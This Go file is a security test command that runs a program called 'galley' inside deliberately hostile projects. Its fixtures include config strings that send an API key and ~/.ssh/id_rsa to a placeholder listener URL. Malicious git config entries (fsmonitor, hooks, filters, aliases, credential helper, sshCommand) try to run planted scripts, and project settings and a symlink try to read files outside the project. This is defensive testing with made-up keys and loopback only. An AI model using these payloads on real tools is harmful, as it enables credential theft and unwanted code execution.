//go:build unix

// Command secrets runs the built program in projects that attack the user. The projects try to read
// keys from the environment and from the home, by paths, addresses and settings; to run programs,
// by git's settings; and to read files outside of the project, by the project's settings. The
// command prints a line for each attack and exits with 1 if one succeeds.
//
//	go run ./ui/cli/hostile/secrets [-galley FILE] [-quick]
//
// It works in a temporary directory that it removes, with its own home and made-up keys, and
// listens only on the loopback address. It takes about five minutes; with -quick it tries each
// attack on one command instead of all.
package main

import (
	"bytes"
	"context"
	"crypto/rand"
	"encoding/hex"
	"flag"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync/atomic"
	"time"
)

// patience is the longest time that one run may take.
var patience = 20 * time.Second

// perm is the mode of all files and directories. They are executable because some files are
// programs.
const perm = 0o755

func main() { os.Exit(command(os.Args[1:], os.Stderr)) }

// command runs all attacks and returns the exit status.
func command(args []string, errs io.Writer) int {
	flags := flag.NewFlagSet("secrets", flag.ContinueOnError)
	flags.SetOutput(errs)
	program := flags.String("galley", "", "the built `program`; built here when it is not named")
	quick := flags.Bool("quick", false, "try each attack on one command only")
	err := flags.Parse(args)
	if err == nil {
		err = inDirectory(func(root string) error { return run(root, *program, *quick) })
	}
	if err != nil {
		fmt.Fprintln(errs, "secrets:", err)
		return 1
	}
	return 0
}

// inDirectory calls a function with a temporary directory.
func inDirectory(do func(root string) error) error {
	root, err := os.MkdirTemp("", "galley-secrets-")
	if err != nil {
		return err
	}
	defer os.RemoveAll(root)
	return do(root)
}

// bench holds what all attacks share.
type bench struct {
	root, galley string
	listener     string       // listener is the address of a server that no attack should reach
	asked        atomic.Int64 // asked is the number of requests that the listener received
	key          string       // key is a secret, made up for each run
	quick        bool
	runs, bad    int
}

// commands returns the commands on which an attack is tried: all of them, or with -quick one.
func (b *bench) commands(all [][]string) [][]string {
	if b.quick {
		return all[:1]
	}
	return all
}

func run(root, program string, quick bool) error {
	var random [12]byte
	_, _ = rand.Read(random[:])
	b := &bench{root: root, galley: program, quick: quick, key: "sk-" + "ant-" + hex.EncodeToString(random[:])}
	if program == "" {
		b.galley = filepath.Join(root, "galley-built")
		if out, err := exec.Command("go", "build", "-o", b.galley, "galley").CombinedOutput(); err != nil {
			return fmt.Errorf("building galley: %w: %s", err, out)
		}
	}
	l, err := listen()
	if err != nil {
		return err
	}
	b.listener = l.Addr().String()
	server := &http.Server{ReadHeaderTimeout: time.Second, Handler: http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) { b.asked.Add(1) })}
	go func() { _ = server.Serve(l) }()
	defer server.Close()

	b.secrets()
	if err := b.git(); err != nil {
		return err
	}
	b.policy()
	fmt.Printf("%d runs, %d attacks that succeeded\n", b.runs, b.bad)
	if b.bad > 0 {
		return fmt.Errorf("%d attacks succeeded", b.bad)
	}
	return nil
}

func listen() (net.Listener, error) { return net.Listen("tcp", "127.0.0.1:0") }

// project is a directory with a home beside it.
type project struct {
	b         *bench
	dir, home string
}

func (b *bench) project(files map[string]string) *project {
	root, _ := os.MkdirTemp(b.root, "p-")
	p := &project{b, filepath.Join(root, "project"), filepath.Join(root, "home")}
	_ = os.MkdirAll(p.dir, perm)
	p.write("~/.ssh/id_rsa", b.key+"-of-a-file\n")
	for name, text := range files {
		p.write(name, strings.NewReplacer("LISTENER", b.listener, "MARK", p.mark()).Replace(text))
	}
	return p
}

func (p *project) write(name, text string) {
	at := filepath.Join(p.dir, name)
	if rest, ok := strings.CutPrefix(name, "~/"); ok {
		at = filepath.Join(p.home, rest)
	}
	_ = os.MkdirAll(filepath.Dir(at), perm)
	_ = os.WriteFile(at, []byte(text), perm)
}

// mark returns the path of the file that a program of the project would make if it ran.
func (p *project) mark() string { return filepath.Join(filepath.Dir(p.dir), "ran") }

// start runs a program in the project and returns its output.
func (p *project) start(program string, args ...string) string {
	ctx, cancel := context.WithTimeout(context.Background(), patience)
	defer cancel()
	cmd := exec.CommandContext(ctx, program, args...)
	cmd.Dir = p.dir
	cmd.Env = []string{
		"PATH=" + os.Getenv("PATH"), "HOME=" + p.home, "XDG_CONFIG_HOME=" + p.home + "/config", "XDG_STATE_HOME=" + p.home + "/state",
		"LANG=C.UTF-8", "ANTHROPIC_API_KEY=" + p.b.key, "GIT_CONFIG_NOSYSTEM=1",
	}
	cmd.WaitDelay = patience // Run waits at most this long for processes that outlive the program and hold its output open
	var out bytes.Buffer
	cmd.Stdout, cmd.Stderr = &out, &out
	_ = cmd.Run()
	if ctx.Err() != nil {
		out.WriteString("\nnot done in time")
	}
	return out.String()
}

// judge prints the result of an attack. An attack without faults has failed, as it should.
func (b *bench) judge(name string, args []string, faults ...string) {
	b.runs++
	said := "held"
	if len(faults) > 0 {
		b.bad++
		said = "FAILED: " + strings.Join(faults, ", ")
	}
	fmt.Printf("%-34s %-34s %s\n", name, strings.Join(args, " "), said)
}

// attack runs galley in a project and judges the result. galley must not print the key, must
// not send a request, and must end in time without a panic. leaked is the message if galley
// prints the key.
func (b *bench) attack(p *project, name string, args []string, leaked string) {
	before := b.asked.Load()
	out := p.start(b.galley, args...)
	var faults []string
	if strings.Contains(out, b.key) {
		faults = append(faults, leaked)
	}
	if b.asked.Load() > before {
		faults = append(faults, "a request was sent")
	}
	if strings.Contains(out, "not done in time") || strings.Contains(out, "panic:") {
		faults = append(faults, "it did not end well")
	}
	b.judge(name, args, faults...)
}

// looks are the commands that show something to the user.
var looks = [][]string{
	{"scan"}, {"scan", "--json"}, {"scan", "--matrix"}, {"doctor"}, {"explain", "AGENTS.md"}, {"vars", "--profile", "opencode"}, {"check", "--profile", "opencode"},
	{"blocks", "--profile", "opencode"}, {"diff", "--profile", "opencode", "--against", "template"}, {"blocks", "--profile", "crush"}, {"budget", "--profile", "opencode"},
	{"blocks", "--json", "--profile", "opencode"}, {"--plain", "--profile", "opencode"},
}

// secrets runs the attacks on keys: no output may contain a key, and galley must not send a
// request.
func (b *bench) secrets() {
	on := "[fetch]\non = true\nhttp = true\nprivate = true\n"
	for name, files := range map[string]map[string]string{
		"a key in an address":         {"opencode.json": `{"instructions": ["http://LISTENER/{env:ANTHROPIC_API_KEY}", "http://LISTENER/{file:~/.ssh/id_rsa}"]}`},
		"a key in a path":             {"opencode.json": `{"instructions": ["/x{env:ANTHROPIC_API_KEY}/*.md", "y{file:~/.ssh/id_rsa}.md"]}`},
		"a key in a prompt":           {"opencode.json": `{"agent": {"build": {"prompt": "before {env:ANTHROPIC_API_KEY} {file:~/.ssh/id_rsa} after"}}}`},
		"a key in a server's headers": {"opencode.json": `{"mcp": {"m": {"type": "remote", "url": "http://LISTENER/", "headers": {"Authorization": "Bearer {env:ANTHROPIC_API_KEY}"}}}}`},
		"a key in a server's env":     {".mcp.json": `{"mcpServers": {"m": {"command": "x", "env": {"K": "` + b.key + `"}}}}`, ".gemini/settings.json": `{"mcpServers": {"m": {"command": "x", "env": {"K": "$ANTHROPIC_API_KEY"}}}}`},
		"a key where none parses":     {"opencode.json": `{"instructions": {env:ANTHROPIC_API_KEY}}`},
		"a key in Crush's settings":   {"crush.json": `{"options": {"context_paths": ["c-$ANTHROPIC_API_KEY.md"]}, "mcp": {"m": {"type": "http", "url": "http://LISTENER/$ANTHROPIC_API_KEY"}}}`},
		"settings that link to a key": {"~/link": "opencode.json"},
	} {
		for _, args := range b.commands(looks) {
			files["~/config/galley/config.toml"] = on
			p := b.project(files)
			if files["~/link"] != "" {
				_ = os.Symlink(p.home+"/.ssh/id_rsa", p.dir+"/opencode.json")
			}
			p.write("AGENTS.md", "rules\n")
			b.attack(p, name, args, "the key is printed")
		}
	}
}

// git runs the attacks by a repository's settings that name programs: none of these may run.
func (b *bench) git() error {
	for name, config := range map[string]string{
		"fsmonitor": "[core]\n\tfsmonitor = MARK.sh\n", "hooks": "[core]\n\thooksPath = hooks\n", "filter": "[filter \"e\"]\n\tclean = MARK.sh\n\tsmudge = MARK.sh\n\tprocess = MARK.sh\n",
		"textconv": "[diff \"e\"]\n\ttextconv = MARK.sh\n\tcommand = MARK.sh\n", "external diff": "[diff]\n\texternal = MARK.sh\n", "pager": "[core]\n\tpager = MARK.sh\n[pager]\n\tstatus = MARK.sh\n\tlog = MARK.sh\n",
		"alias": "[alias]\n\tstatus = !MARK.sh\n\tlog = !MARK.sh\n\trev-parse = !MARK.sh\n\tbranch = !MARK.sh\n", "credential helper": "[credential]\n\thelper = !MARK.sh\n[remote \"origin\"]\n\turl = http://LISTENER/x\n",
		"ssh command": "[core]\n\tsshCommand = MARK.sh\n[remote \"origin\"]\n\turl = git@localhost:x\n\tpromisor = true\n", "gpg": "[gpg]\n\tprogram = MARK.sh\n[log]\n\tshowSignature = true\n[commit]\n\tgpgSign = true\n",
		"askpass and editor": "[core]\n\taskPass = MARK.sh\n\teditor = MARK.sh\n", "included": "[include]\n\tpath = ../evil\n",
	} {
		p := b.project(map[string]string{
			".galley/system-prompt.md": "[git:status] [git:branch]\n", ".gitattributes": "* filter=e diff=e\n", "a": "1\n", "AGENTS.md": "rules\n",
			"hooks/post-index-change": "#!/bin/sh\ntouch MARK\n", "hooks/reference-transaction": "#!/bin/sh\ntouch MARK\n",
			"evil": "[core]\n\tfsmonitor = MARK.sh\n[filter \"e\"]\n\tclean = MARK.sh\n",
		})
		p.write("../"+filepath.Base(p.mark())+".sh", "#!/bin/sh\ntouch "+p.mark()+"\ncat\n")
		for _, args := range [][]string{{"init", "-q"}, {"add", "."}, {"-c", "user.name=a", "-c", "user.email=a@localhost", "commit", "-qm", "i"}} {
			if out := p.start("git", args...); strings.Contains(out, "fatal") {
				return fmt.Errorf("git %v: %s", args, out)
			}
		}
		f, err := os.OpenFile(p.dir+"/.git/config", os.O_APPEND|os.O_WRONLY, 0)
		if err != nil {
			return err
		}
		_, _ = f.WriteString(strings.NewReplacer("MARK", p.mark(), "LISTENER", b.listener).Replace(config))
		_ = f.Close()
		for _, args := range b.commands([][]string{{"render"}, {"vars"}, {"check"}, {"blocks"}, {"--plain"}, {"diff", "--against", "HEAD"}, {"scan"}, {"doctor"}, {"render", "--profile", "opencode"}}) {
			p.write("a", "2\n") // change the file, so that git must read its content
			_ = os.Remove(p.mark())
			out := p.start(b.galley, args...)
			var faults []string
			if _, err := os.Lstat(p.mark()); err == nil {
				faults = append(faults, "a program ran")
			}
			if strings.Contains(out, "not done in time") || strings.Contains(out, "panic:") {
				faults = append(faults, "it did not end well")
			}
			b.judge("git: "+name, args, faults...)
		}
	}
	return nil
}

// policy runs the attacks by settings of a project that would weaken those of the user.
func (b *bench) policy() {
	for name, c := range map[string]struct{ own, project, template string }{
		"files outside are allowed": {"[files]\nallow = \"project\"\n", "[files]\nallow = \"all\"\n", "[file:../home/.ssh/id_rsa]"},
		"links are followed":        {"[files]\nallow = \"project\"\nfollow = false\n", "[files]\nfollow = true\n", "[file:link]"},
		"fetching is switched on":   {"", "[fetch]\non = true\nhttp = true\nprivate = true\n", "x"},
		"the file cap is lifted":    {"[files]\nallow = \"project\"\n", "files = { cap = 9223372036854775807, allow = \"all\" }\n", "[file:../home/.ssh/id_rsa]"},
	} {
		p := b.project(map[string]string{
			"~/config/galley/config.toml": c.own, ".galley/config.toml": c.project, "t.md": c.template,
			"opencode.json": `{"instructions": ["http://LISTENER/rules.md"]}`,
		})
		_ = os.Symlink(p.home+"/.ssh/id_rsa", p.dir+"/link")
		for _, args := range b.commands([][]string{{"render", "t.md"}, {"blocks", "t.md"}, {"--plain", "t.md"}, {"render", "--profile", "opencode"}, {"scan"}}) {
			b.attack(p, "policy: "+name, args, "a file outside was read")
		}
	}
}
